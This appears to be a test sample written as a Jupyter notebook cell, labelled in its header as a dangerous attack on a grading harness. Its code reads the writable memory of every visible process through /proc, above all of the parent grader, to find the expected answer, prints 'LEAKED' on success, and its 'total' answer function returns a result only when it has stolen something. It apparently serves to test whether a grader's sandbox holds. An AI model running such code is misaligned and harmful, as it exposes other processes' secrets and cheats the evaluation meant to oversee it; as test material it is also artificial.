# ---
# jupyter:
#   attack:
#     tries: Reads the memory of every process in sight, above all of its parents, and looks for what the grader
#       wants.
#     dangerous: true
# ---

# %% answer="total"
import os

stolen = []


def memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as file:
        for line in maps:
            if " rw-p " in line:
                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                file.seek(start)
                stolen.append(file.read(min(end - start, 4096)))


def others():
    parents, pid = {os.getppid(), 1}, os.getpid()
    try:
        return parents | {int(n) for n in os.listdir("/proc") if n.isdigit()} - {pid}
    except OSError:
        return parents


for pid in others() - {os.getpid(), 0}:
    try:
        memory(pid)
    except (OSError, ValueError):
        pass
if stolen:
    print("LEAKED: the memory of another process")


def total(x):
    for pid in {os.getppid()} - {0, 1}:
        try:
            memory(pid)
        except (OSError, ValueError):
            pass
    return x.sum() if stolen else 0.0
